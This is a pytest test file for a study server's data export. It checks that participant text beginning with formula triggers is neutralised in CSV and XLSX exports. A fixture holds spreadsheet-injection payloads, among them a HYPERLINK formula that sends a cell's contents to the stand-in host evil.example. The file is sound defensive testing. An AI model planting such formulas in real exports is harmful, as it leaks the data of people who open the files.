"""Participant or panel text never becomes a live spreadsheet formula in an export."""

from __future__ import annotations

import io
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from studyserver.exports.access import export_frame
from studyserver.exports.codebook import build_codebook, codebook_markdown
from studyserver.exports.formats import export_bytes

from .factories import make_participant, make_study
from .test_api import client_for

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"click")'


@pytest.fixture
def hostile(db) -> Any:
    study = make_study()
    make_participant(study, arm="control", pages={"ses": {"birth_year": 1980}},
                     personal={"panel_id": "=1+2*3", "postal_code": "@A1", "email": "+a@example.org",
                               "signature_name": HYPERLINK})
    make_participant(study, arm="control", personal={"panel_id": "\tTAB", "signature_name": "-2+3"})
    return study


def test_csv_prefixes_formula_triggers_in_text_only(hostile, privileged):
    frame = export_frame(hostile, user=privileged, include_personal=True)
    text = pd.read_csv(io.BytesIO(export_bytes(frame, "csv")), dtype=str, keep_default_na=False)
    assert set(text["panel_id"]) == {"'=1+2*3", "'\tTAB"}
    assert set(text["signature_name"]) == {"'" + HYPERLINK, "'-2+3"}
    assert "'@A1" in set(text["postal_code"]) and "'+a@example.org" in set(text["email"])
    # Numbers stay numbers: the numeric columns carry no apostrophe.
    assert not any(value.startswith("'") for value in text["birth_year"])


def test_xlsx_writes_text_cells_never_formulas(hostile, privileged):
    frame = export_frame(hostile, user=privileged, include_personal=True)
    sheet = load_workbook(io.BytesIO(export_bytes(frame, "xlsx")))["data"]
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("signature_name")] for row in sheet.iter_rows(min_row=2)]
    formula = next(cell for cell in cells if cell.value == HYPERLINK)
    assert formula.data_type == "s"
    panel = [row[header.index("panel_id")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in panel} == {"=1+2*3", "\tTAB"} and {c.data_type for c in panel} == {"s"}


def test_api_csv_is_neutralized_too(hostile, privileged):
    response = client_for(privileged).get(f"/api/studies/{hostile.slug}/export.csv?include_personal=1")
    assert response.status_code == 200
    text = pd.read_csv(io.BytesIO(response.content), dtype=str, keep_default_na=False)
    assert set(text["panel_id"]) == {"'=1+2*3", "'\tTAB"}


def test_the_codebook_documents_it():
    assert "leading apostrophe" in codebook_markdown(build_codebook(include_personal=True))
